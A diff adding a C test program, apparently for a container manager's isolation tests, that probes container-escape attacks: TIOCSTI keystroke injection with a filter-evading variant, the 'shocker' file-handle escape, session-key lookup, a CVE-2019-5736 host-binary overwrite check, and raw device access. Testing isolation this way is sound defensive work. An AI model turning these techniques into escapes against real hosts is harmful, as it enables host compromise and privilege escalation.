@@ -1,0 +1,148 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/*
+ * What a hostile root in a container tries. Each attack prints "yes" where it works and "no" where
+ * it does not, and is run on the host or against something open first, to show that it can.
+ *
+ *	attack tiocsti | shocker [PATH] | key NAME | exe SECONDS | raw DEVICE
+ *	attack with-key NAME COMMAND ...	on the host: run it with a key in its session
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/vfs.h>
+#include <time.h>
+#include <unistd.h>
+
+/* Type a character into the terminal of whoever called: with the number as it is, and with high
+ * bits that the kernel ignores and a careless filter does not. */
+static int tiocsti(const char *arg)
+{
+	char c = 'x';
+
+	return syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI, &c) == 0 ||
+	       syscall(SYS_ioctl, 0, TIOCSTI | 1UL << 32, &c) == 0;
+}
+
+/* Open the root directory of the file system below by its handle, which needs no path. */
+static int shocker(const char *arg)
+{
+	union {
+		struct file_handle h;
+		char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+	} u = { .h.handle_bytes = MAX_HANDLE_SZ };
+	int id, dir = open("/", O_RDONLY | O_DIRECTORY), fd;
+
+	if (name_to_handle_at(AT_FDCWD, arg, &u.h, &id, 0) < 0) {
+		/* Refused too: guess the handle of inode 2. */
+		unsigned int guess[2] = { 2, 0 };
+
+		u.h.handle_bytes = sizeof(guess);
+		u.h.handle_type = 1;
+		memcpy(u.h.f_handle, guess, sizeof(guess));
+	}
+	fd = open_by_handle_at(dir, &u.h, O_RDONLY | O_DIRECTORY);
+	return fd >= 0;
+}
+
+/* Find a key of the caller's session. */
+static int key(const char *name)
+{
+	return syscall(SYS_request_key, "user", name, NULL, 0) >= 0;
+}
+
+static int with_key(char **argv)
+{
+	if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL) < 0 ||
+	    syscall(SYS_add_key, "user", argv[0], "secret", 6, -3 /* the session's */) < 0)
+		return 125;
+	execvp(argv[1], argv + 1);
+	return 127;
+}
+
+static int is_lxmgr(const char *pid)
+{
+	char path[300], comm[16] = "";
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd >= 0 && read(fd, comm, sizeof(comm) - 1) < 0)
+		*comm = '\0';
+	close(fd);
+	return !strncmp(comm, "lxmgr", 5);
+}
+
+#define PINS 64
+
+/* CVE-2019-5736: the program of a process that comes in is a file of the host's. Pin it by O_PATH
+ * and open it for writing as soon as nobody runs it. */
+static int exe(const char *seconds)
+{
+	time_t end = time(NULL) + strtol(seconds, NULL, 10);
+	long pin[PINS][2] = { 0 }; /* pid, fd */
+	size_t next = 0;
+	char path[300];
+
+	while (time(NULL) < end) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+
+		while (d && (e = readdir(d))) {
+			long pid = strtol(e->d_name, NULL, 10);
+			size_t i = 0;
+
+			while (i < PINS && pin[i][0] != pid)
+				i++;
+			if (i < PINS || pid <= 0 || !is_lxmgr(e->d_name))
+				continue;
+			snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
+			if (pin[next][0])
+				close((int)pin[next][1]);
+			pin[next][1] = open(path, O_PATH | O_CLOEXEC);
+			pin[next][0] = pin[next][1] < 0 ? 0 : pid;
+			next = (next + 1) % PINS;
+		}
+		if (d)
+			closedir(d);
+		for (size_t i = 0; i < PINS; i++) {
+			snprintf(path, sizeof(path), "/proc/self/fd/%ld", pin[i][1]);
+			if (pin[i][0] && open(path, O_WRONLY | O_CLOEXEC) >= 0)
+				return 1;
+		}
+	}
+	return 0;
+}
+
+/* Read from a device node that somebody left in the root. */
+static int raw(const char *path)
+{
+	return open(path, O_RDONLY | O_NONBLOCK) >= 0;
+}
+
+int main(int argc, char **argv)
+{
+	static const struct {
+		const char *name;
+		int (*run)(const char *arg);
+	} attacks[] = { { "tiocsti", tiocsti },
+			{ "shocker", shocker },
+			{ "key", key },
+			{ "exe", exe },
+			{ "raw", raw } };
+
+	if (argc > 3 && !strcmp(argv[1], "with-key"))
+		return with_key(argv + 2);
+	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
+		if (!strcmp(argv[1], attacks[i].name)) {
+			puts(attacks[i].run(argc > 2 ? argv[2] : "/") ? "yes" : "no");
+			return 0;
+		}
+	return 64;
+}
